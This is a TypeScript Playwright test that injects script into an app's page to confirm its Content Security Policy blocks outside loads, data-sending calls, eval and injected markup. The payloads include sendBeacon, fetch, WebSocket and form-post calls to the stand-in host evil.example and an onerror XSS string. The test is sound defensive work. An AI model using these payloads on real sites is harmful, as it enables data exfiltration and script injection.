import type { Page } from 'playwright-core';
import { expect } from 'vitest';
import { journey } from '#test/support/journey.ts';

const FOREIGN = 'https://evil.example';

/** What script in the page could try to reach the outside with, or to bring the outside in. */
const attempts = `(async () => {
  await new Promise((resolve) => setTimeout(resolve)); // whatever drives the page is let past the policy until here
  const outcomes = {};
  const attempt = async (name, act) => {
    try { outcomes[name] = String((await act()) ?? 'done'); } catch (error) { outcomes[name] = error.name; }
  };
  const element = (name, set) => {
    const made = document.createElement(name);
    Object.assign(made, set);
    document.body.append(made);
    return made;
  };
  const foreign = '${FOREIGN}';
  for (const [index, src] of [foreign, 'data:text/html,<p>x', 'blob:' + foreign, 'about:blank', '/index.html'].entries())
    await attempt('frame ' + index, () => void element('iframe', { src }));
  await attempt('frame text', () => { element('iframe', {}).srcdoc = '<script>parent.planted = 1</scr' + 'ipt>'; });
  await attempt('frame script', () => { element('iframe', {}).src = 'javascript:parent.planted = 1'; });
  await attempt('object', () => void element('object', { data: foreign }));
  await attempt('embed', () => void element('embed', { src: foreign }));
  await attempt('picture', () => void element('img', { src: foreign + '/x.png' }));
  await attempt('picture data', () => void element('img', { src: 'data:image/png;base64,AAAA' }));
  await attempt('style', () => void element('link', { rel: 'stylesheet', href: foreign + '/x.css' }));
  await attempt('style text', () => { element('style', {}).textContent = '@import "' + foreign + '/y.css"'; });
  await attempt('prefetch', () => void element('link', { rel: 'prefetch', href: foreign + '/z' }));
  await attempt('form', () => element('form', { action: foreign, method: 'post' }).submit());
  await attempt('base', () => void element('base', { href: foreign }));
  await attempt('beacon', () => navigator.sendBeacon(foreign, 'x'));
  await attempt('fetch', () => fetch(foreign));
  await attempt('socket', () => void new WebSocket('wss://evil.example'));
  await attempt('events', () => void new EventSource(foreign));
  await attempt('worker', () => void new Worker(URL.createObjectURL(new Blob(['1']))));
  await attempt('service', () => navigator.serviceWorker.register('/assets/x.js'));
  await attempt('code', () => eval('1'));
  await attempt('timer', () => void setTimeout('window.planted = 1', 0));
  await attempt('markup', () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="planted = 1">'));
  await attempt('module', () => import('data:text/javascript,window.planted = 1'));
  await attempt('geolocation', () => new Promise((done) => navigator.geolocation.getCurrentPosition(() => done('given'), (e) => done('code ' + e.code))));
  await attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'given'));
  await new Promise((resolve) => setTimeout(resolve, 300));
  return { outcomes, planted: String(window.planted), base: document.baseURI, here: location.href };
})()`;

interface Findings {
  readonly outcomes: Readonly<Record<string, string>>;
  readonly planted: string;
  readonly base: string;
  readonly here: string;
}

/** Addresses outside of the app that a request was sent to, and left the browser's own checks. */
function watchRequests(page: Page, own: string): string[] {
  const left: string[] = [];
  page.on('response', (response) => {
    if (!response.url().startsWith(own)) left.push(response.url());
  });
  page.on('framenavigated', (frame) => {
    const isInside = frame.parentFrame() !== null && !/^(?:about:|chrome-error:)/.test(frame.url());
    if (isInside) left.push(frame.url());
  });
  return left;
}

journey(
  'script that got into the page embeds, loads, posts and runs nothing, and stays where it is',
  async ({ openApp }) => {
    const { page, expectProblem } = await openApp();
    expectProblem(
      /Content Security Policy|Trusted|evil\.example|request failed|Refused|Permissions/i,
    );
    const own = new URL(page.url()).origin;
    const before = page.url();
    const left = watchRequests(page, own);
    const { outcomes, planted, here } = await page.evaluate<Findings>(attempts);
    expect(left).toEqual([]);
    expect(planted).toBe('undefined');
    expect(here).toBe(before);
    expect(outcomes).toMatchObject({
      fetch: 'TypeError',
      code: 'EvalError',
      timer: 'TypeError',
      markup: 'TypeError',
      module: 'TypeError',
      worker: 'TypeError',
      geolocation: 'code 1',
    });
    for (const name of ['service', 'camera']) expect(outcomes[name]).toMatch(/Error$/);
    expect(Object.keys(outcomes)).toHaveLength(28);
  },
);
